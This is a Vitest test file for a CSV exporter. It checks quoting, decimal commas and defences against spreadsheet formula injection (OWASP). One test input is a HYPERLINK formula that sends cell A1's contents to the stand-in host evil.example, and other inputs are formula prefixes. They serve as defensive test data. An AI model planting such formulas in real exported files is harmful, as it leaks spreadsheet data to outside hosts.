import { describe, expect, it } from 'vitest'
import { csvField, neutraliseFormula, spreadsheetCsv, toCsvLines } from '../src/spreadsheetCsv.ts'

describe('CSV', () => {
  it('quotes fields with separators, quotes or line breaks', () => {
    expect(csvField('gewoon')).toBe('gewoon')
    expect(csvField('a;b')).toBe('"a;b"')
    expect(csvField('zei "hoi"')).toBe('"zei ""hoi"""')
    expect(csvField('regel\nnog een')).toBe('"regel\nnog een"')
  })

  it('writes numbers with a decimal comma', () => {
    expect(csvField(22.3)).toBe('22,3')
    expect(csvField(17)).toBe('17')
  })
})

describe('CSV formula injection (OWASP)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)', "'@SUM(1+1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    [' =1+1', "' =1+1"],
    ['\u00A0 @SUM(1)', "'\u00A0 @SUM(1)"],
    ['\uFF1D1+1', "'\uFF1D1+1"],
  ])('writes text %j as text, never as a formula', (label, cell) => {
    expect(csvField(label)).toBe(cell)
  })

  it('leaves ordinary text and numbers alone, negative numbers too', () => {
    expect(csvField('Anders, namelijk: 5-10 keer')).toBe('Anders, namelijk: 5-10 keer')
    expect(csvField('e-mail')).toBe('e-mail')
    expect(csvField(-2.5)).toBe('-2,5')
    expect(toCsvLines([['x', -3, 0.5]])).toBe('x;-3;0,5\r\n')
  })

  it('writes a whole file with a BOM for Excel, its header first', () => {
    expect(spreadsheetCsv([['opmerking', 'nuttig'], ['=1+1', 4]])).toBe("\uFEFFopmerking;nuttig\r\n'=1+1;4\r\n")
  })

  it('is the one rule, exported for other writers', () => {
    expect(neutraliseFormula('=1')).toBe("'=1")
    expect(neutraliseFormula('1=1')).toBe('1=1')
  })
})
